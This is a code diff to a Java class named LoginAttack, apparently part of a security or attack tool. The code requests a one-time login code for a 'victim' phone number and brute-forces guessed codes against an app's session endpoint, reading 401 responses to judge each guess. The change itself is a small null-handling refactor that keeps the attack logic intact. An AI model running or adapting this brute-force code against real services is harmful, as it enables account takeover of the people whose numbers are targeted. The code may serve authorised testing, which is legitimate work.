@@ -15,6 +15,7 @@ import java.util.ArrayList;
 import java.util.Comparator;
 import java.util.List;
 import java.util.Map;
+import java.util.Objects;
 import java.util.SplittableRandom;
 import java.util.concurrent.ExecutionException;
 import java.util.concurrent.ExecutorService;
@@ -165,21 +166,23 @@ final class LoginAttack {
                                         .most(span),
                         GuessPolicies.DEFAULT.of(GuessKind.CODE).channel().most(span)),
                 client -> {
-                    if (codeId.get().isEmpty() || client.digits().endsWith("7")) {
+                    String id = Objects.requireNonNullElse(codeId.get(), "");
+                    if (id.isEmpty() || client.digits().endsWith("7")) {
                         HttpAnswer asked =
                                 client.post("/app/v1/session/code-requests", "{\"msisdn\":\"" + victim + "\"}");
-                        Matcher id = CODE_ID.matcher(asked.body());
-                        if (id.find()) {
-                            codeId.set(id.group(1));
+                        Matcher made = CODE_ID.matcher(asked.body());
+                        if (made.find()) {
+                            id = made.group(1);
+                            codeId.set(id);
                         }
                     }
-                    if (codeId.get().isEmpty()) {
+                    if (id.isEmpty()) {
                         return false;
                     }
                     return judged(
                             client.post(
                                     "/app/v1/session/code",
-                                    "{\"msisdn\":\"" + victim + "\",\"code_id\":\"" + codeId.get() + "\",\"code\":\""
+                                    "{\"msisdn\":\"" + victim + "\",\"code_id\":\"" + id + "\",\"code\":\""
                                             + client.digits() + "\"}"),
                             401);
                 });
